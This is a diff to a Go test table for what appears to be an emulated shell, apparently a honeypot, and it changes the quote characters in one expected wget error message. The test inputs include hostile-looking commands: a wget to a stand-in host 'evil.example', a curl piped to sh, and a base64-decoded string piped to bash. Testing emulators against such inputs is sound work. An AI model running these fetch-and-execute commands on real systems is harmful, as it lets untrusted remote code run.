@@ -99,7 +99,7 @@ func TestShellCommands(t *testing.T) {
 			want: "-bash: ./a.sh: Permission denied\npwned\n"},
 		{name: "missing script", line: "./x.sh", want: "-bash: ./x.sh: No such file or directory\n", status: 127},
 		{name: "binary by path", line: "/bin/uname -m", want: "x86_64\n"},
-		{name: "wget fails to resolve", line: "wget http://evil.example/a.sh", has: []string{"Resolving evil.example", "unable to resolve host address 'evil.example'"}, status: 4},
+		{name: "wget fails to resolve", line: "wget http://evil.example/a.sh", has: []string{"Resolving evil.example", "unable to resolve host address ‘evil.example’"}, status: 4},
 		{name: "curl to ip", line: "curl http://203.0.113.5/x", want: "curl: (7) Failed to connect to 203.0.113.5 port 80 after 0 ms: Couldn't connect to server\n", status: 7},
 		{name: "curl pipe sh", line: "curl -s http://x/y | sh", want: ""},
 		{name: "base64 pipe sh", line: "echo ZWNobyBoaQ== | base64 -d | bash", want: "hi\n"},
